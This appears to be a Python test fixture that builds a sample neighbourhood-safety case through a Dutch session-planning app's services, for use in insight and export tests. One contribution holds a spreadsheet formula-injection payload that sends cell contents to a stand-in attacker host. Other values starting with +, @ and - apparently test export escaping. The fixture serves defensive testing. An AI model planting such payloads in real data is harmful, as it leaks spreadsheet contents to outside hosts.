"""A small but complete opgave for the insight and export tests, written through the services."""

from __future__ import annotations

import datetime
from dataclasses import dataclass

from sessions import services
from sessions.models import Opgave, Partij, Sessie, Tafel

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'


@dataclass
class Story:
    opgave: Opgave
    sessie_1: Sessie
    sessie_2: Sessie
    tafel_a: Tafel
    tafel_b: Tafel
    tafel_c: Tafel
    partijen: dict[str, Partij]


def build_story(team) -> Story:
    opgave = services.opgave_create(
        team=team,
        title="Veilige wijk",
        formulering="De wijk veiliger maken.",
        verbindende_vraag="Wat maakt de wijk veilig voor iedereen?",
    )
    partijen = {
        name: services.partij_add(
            opgave=opgave, name=name, wereld=wereld, status=status, toelichting=note
        )
        for name, wereld, status, note in [
            ("Gemeente", "publiek", "aan_tafel", ""),
            ("Politie", "publiek", "aan_tafel", ""),
            ("Woningcorporatie", "privaat", "aan_tafel", ""),
            ("Bewonersgroep", "particulier", "aan_tafel", ""),
            ("Openbaar Ministerie", "publiek", "ontbreekt", "gebiedsofficier"),
        ]
    }
    sessie_1 = services.sessie_create(opgave=opgave, title="Eerste sessie", state="open", tafels=2)
    sessie_2 = services.sessie_create(opgave=opgave, title="Tweede sessie", state="gepland")
    services.sessie_set_step(sessie=sessie_2, stap=3)
    tafel_a, tafel_b = sessie_1.tafels.order_by("nummer")
    tafel_c = sessie_2.tafels.get()
    services.opgave_text_set(
        opgave=opgave,
        veld="formulering",
        tekst="De wijk veiliger en prettiger maken.",
        sessie=sessie_1,
    )
    services.opgave_text_set(
        opgave=opgave,
        veld="ambitie",
        tekst="Een wijk waar iedereen zich thuis voelt.",
        sessie=sessie_2,
    )
    g, p, w, b = (partijen[n] for n in ("Gemeente", "Politie", "Woningcorporatie", "Bewonersgroep"))
    services.perspectief_set(tafel=tafel_a, partij=g, tekst="Overlast neemt toe.", urgentie=5)
    services.perspectief_set(tafel=tafel_a, partij=p, tekst="Meer meldingen.", urgentie=4)
    services.perspectieven_reveal(tafel=tafel_a)
    services.perspectief_set(tafel=tafel_a, partij=w, tekst="Nog niet gedeeld.", urgentie=1)

    def add(tafel, partij, soort, tekst, gewicht=1, **extra):
        return services.bijdrage_add(
            tafel=tafel, partij=partij, soort=soort, tekst=tekst, gewicht=gewicht, **extra
        )

    g_haal = add(tafel_a, g, "haal", "Minder overlast in de wijk", 3)
    p_breng = add(
        tafel_a,
        p,
        "breng",
        "Extra surveillance",
        2,
        breng_soort="mensen_tijd",
        toezegging="toegezegd",
    )
    add(tafel_a, p, "haal", "Informatie van bewoners", 2)
    add(tafel_a, g, "breng", "Buurtbudget", 1, breng_soort="geld", toezegging="mogelijk")
    add(
        tafel_a,
        w,
        "breng",
        "Cameratoezicht in portieken",
        1,
        vertrouwelijk=True,
        breng_soort="anders",
        toezegging="mogelijk",
    )
    add(tafel_a, b, "haal", INJECTION, 1)
    services.koppeling_add(tafel=tafel_a, haal_id=g_haal.pk, breng_id=p_breng.pk)
    services.vervolgstap_add(
        tafel=tafel_a,
        title="Wijkschouw",
        eigenaar=g,
        partijen=[p, partijen["Openbaar Ministerie"]],
        datum=datetime.date(2025, 3, 1),
    )
    add(
        tafel_b,
        b,
        "breng",
        "+31 bewoners die meedoen",
        2,
        breng_soort="mensen_tijd",
        toezegging="toegezegd",
    )
    add(tafel_b, g, "haal", "Minder overlast in de wijk", 2)
    c_haal = add(tafel_c, w, "haal", "@Sociale veiligheid in de flats", 2)
    c_breng = add(
        tafel_c,
        g,
        "breng",
        "-Regie op de aanpak",
        3,
        breng_soort="kennis_data",
        toezegging="toegezegd",
    )
    services.koppeling_add(tafel=tafel_c, haal_id=c_haal.pk, breng_id=c_breng.pk)
    services.vervolgstap_add(tafel=tafel_c, title="Plan van aanpak", eigenaar=w, partijen=[g])
    return Story(opgave, sessie_1, sessie_2, tafel_a, tafel_b, tafel_c, partijen)
